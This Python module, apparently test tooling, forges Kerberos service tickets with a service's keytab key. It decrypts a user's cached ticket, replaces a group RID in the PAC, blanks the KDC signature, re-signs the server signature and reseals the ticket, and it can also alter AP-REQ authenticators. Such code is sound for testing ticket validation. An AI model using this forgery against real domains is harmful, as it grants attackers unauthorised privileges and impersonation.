"""Rewrites genuine tickets with the service's own key: what who can read a keytab could do.

A ticket is taken from a user's credential cache, opened, changed and sealed again, and put back. A
client then makes tokens of it that are right in every other way.
"""

from __future__ import annotations

import ctypes
import struct
from ctypes import byref
from dataclasses import dataclass
from pathlib import Path

import krb5
from helpers import der, rewritten

# Numbers of key usage (RFC 4120 section 7.5.1, MS-PAC section 2.8.1).
OF_TICKET = 2
OF_AUTHENTICATOR = 11
OF_PAC = 17
# Types of authorization data (RFC 4120 section 7.5.4).
IF_RELEVANT = 1
WIN2K_PAC = 128
# Types of a PAC's buffers (MS-PAC section 2.4).
LOGON_INFO = 1
SERVER_SIGNATURE = 6
KDC_SIGNATURE = 7
UPN_DNS_INFO = 12

# Where things are, from tag to tag (RFC 4120 sections 5.3 and 5.5.1).
_SEALED_IN_TICKET = [0x61, 0x30, 0xA3, 0x30, 0xA2, 0x04]
_AUTHORIZATION_DATA = [0x63, 0x30, 0xAA]
_PAC = [0x30, 0x30, 0xA1, 0x04, 0x30, 0x30, 0xA1, 0x04]
_SEALED_IN_AP_REQ = [0x60, 0x6E, 0x30, 0xA4, 0x30, 0xA2, 0x04]
_AUTHENTICATOR = [0x62, 0x30]


class _Data(ctypes.Structure):
    _fields_ = (
        ("magic", ctypes.c_int32),
        ("length", ctypes.c_uint),
        ("data", ctypes.c_char_p),
    )


class _KeyBlock(ctypes.Structure):
    _fields_ = (
        ("magic", ctypes.c_int32),
        ("enctype", ctypes.c_int32),
        ("length", ctypes.c_uint),
        ("contents", ctypes.c_char_p),
    )


class _Sealed(ctypes.Structure):
    _fields_ = (
        ("magic", ctypes.c_int32),
        ("enctype", ctypes.c_int32),
        ("kvno", ctypes.c_uint),
        ("content", _Data),
    )


class _Checksum(ctypes.Structure):
    _fields_ = (
        ("magic", ctypes.c_int32),
        ("type", ctypes.c_int32),
        ("length", ctypes.c_uint),
        ("contents", ctypes.POINTER(ctypes.c_ubyte)),
    )


_library = ctypes.CDLL("libkrb5.so.3")


@dataclass
class Key:
    """A key of an encryption type of RFC 3961."""

    enctype: int
    content: bytes

    def __post_init__(self):
        self._context = ctypes.c_void_p()
        assert _library.krb5_init_context(byref(self._context)) == 0
        self._block = _KeyBlock(0, self.enctype, len(self.content), self.content)

    def _call(self, name, *arguments):
        code = getattr(_library, name)(self._context, *arguments)
        assert code == 0, f"{name}: {code}"

    def opened(self, usage, sealed):
        room = ctypes.create_string_buffer(len(sealed))
        plain = _Data(0, len(room), ctypes.cast(room, ctypes.c_char_p))
        given = _Sealed(0, self.enctype, 0, _Data(0, len(sealed), sealed))
        block = byref(self._block)
        self._call("krb5_c_decrypt", block, usage, None, byref(given), byref(plain))
        return room.raw[: plain.length]

    def sealed(self, usage, plain):
        room = ctypes.create_string_buffer(len(plain) + 128)
        content = _Data(0, len(room), ctypes.cast(room, ctypes.c_char_p))
        sealed = _Sealed(0, 0, 0, content)
        given = _Data(0, len(plain), plain)
        block = byref(self._block)
        self._call("krb5_c_encrypt", block, usage, None, byref(given), byref(sealed))
        return room.raw[: sealed.content.length]

    def signature(self, kind, usage, content):
        made = _Checksum()
        given = _Data(0, len(content), content)
        block = byref(self._block)
        signed = byref(given), byref(made)
        self._call("krb5_c_make_checksum", kind, block, usage, *signed)
        return bytes(made.contents[: made.length])

    def resealed(self, usage, sealed, change):
        return self.sealed(usage, change(self.opened(usage, sealed)))


def keys_of(keytab, spn):
    """The keys of *spn* in *keytab*, by their encryption types."""
    entries = krb5.kt_resolve(krb5.init_context(), f"FILE:{keytab}".encode())
    return {
        entry.key.enctype: Key(entry.key.enctype, bytes(entry.key.data))
        for entry in entries
        if str(entry.principal) == spn
    }


def key_of(keytab, spn):
    return keys_of(keytab, spn)[18]


def credential(ccache, spn):
    """What *ccache* has for *spn*."""
    context = krb5.init_context()
    cache = krb5.cc_resolve(context, f"FILE:{ccache}".encode())
    for found in cache:
        if str(found.server) == spn:
            return found
    raise LookupError(spn)


def rewrite_ticket(ccache, spn, key, change, target):
    """Copy *ccache* to *target* with *change* made to the authorization data of the ticket for *spn*.

    *change* is given the DER of AuthorizationData (RFC 4120 section 5.2.6), and *key* is the
    service's.
    """
    ticket = bytes(credential(ccache, spn).ticket)

    def change_part(part):
        return rewritten(part, _AUTHORIZATION_DATA, change)

    def change_sealed(sealed):
        return key.resealed(OF_TICKET, sealed, change_part)

    new = rewritten(ticket, _SEALED_IN_TICKET, change_sealed)
    content = Path(ccache).read_bytes()
    counted = [struct.pack(">I", len(it)) + it for it in (ticket, new)]
    assert content.count(counted[0]) == 1
    Path(target).write_bytes(content.replace(*counted))
    return str(target)


def pac_in(ccache, spn, key):
    """The PAC in the ticket for *spn*."""
    found = []

    def keep(pac):
        found.append(pac)
        return pac

    def look(data):
        return rewritten(data, _PAC, keep)

    rewrite_ticket(ccache, spn, key, look, f"{ccache}.looked-at")
    return found[0]


def with_pac(change):
    """Of a change of a PAC, a change of the authorization data that it is in."""
    return lambda data: rewritten(data, _PAC, change)


def authorization_data(kind, content):
    """An element of AuthorizationData."""
    number = der(2, kind.to_bytes(2, "big").lstrip(b"\0") or b"\0")
    if kind == WIN2K_PAC:
        number = der(2, b"\0\x80")  # a signed number
    return der(0x30, der(0xA0, number), der(0xA1, der(0x04, content)))


def pac_as_authorization_data(pac):
    """What a KDC puts *pac* into."""
    return authorization_data(
        IF_RELEVANT, der(0x30, authorization_data(WIN2K_PAC, pac))
    )


def with_authorization_data_of_the_clients(token, session_key, data):
    """A bare token of krb5 whose authenticator has *data* as well (RFC 4120 section 5.5.1)."""

    def add(content):
        return content + der(0xA8, der(0x30, data))

    def change(authenticator):
        return rewritten(authenticator, _AUTHENTICATOR, add)

    def change_sealed(sealed):
        return session_key.resealed(OF_AUTHENTICATOR, sealed, change)

    return rewritten(token, _SEALED_IN_AP_REQ, change_sealed)


# The PAC (MS-PAC section 2.3): a count, a version, and for each buffer its type, size and place.


def buffers(pac):
    """Where each buffer of *pac* is, by its type."""
    count, _ = struct.unpack_from("<II", pac)
    entries = [struct.unpack_from("<IIQ", pac, 8 + 16 * n) for n in range(count)]
    return {kind: slice(at, at + size) for kind, size, at in entries}


def with_group_replaced(pac, old, new):
    """*pac* with one RID for another among the groups."""
    old, new = (struct.pack("<II", rid, 7) for rid in (old, new))
    assert pac[buffers(pac)[LOGON_INFO]].count(old) == 1
    return pac.replace(old, new)


def signed_anew(pac, key):
    """*pac* with the service's signature right again, and none of the KDC's."""
    changed = bytearray(pac)
    places = buffers(pac)
    for kind in (SERVER_SIGNATURE, KDC_SIGNATURE):
        start = places[kind].start + 4
        end = places[kind].stop
        changed[start:end] = bytes(end - start)
    place = places[SERVER_SIGNATURE]
    kind = int.from_bytes(pac[place.start : place.start + 4], "little", signed=True)
    signature = key.signature(kind, OF_PAC, bytes(changed))
    changed[place.start + 4 : place.start + 4 + len(signature)] = signature
    return bytes(changed)
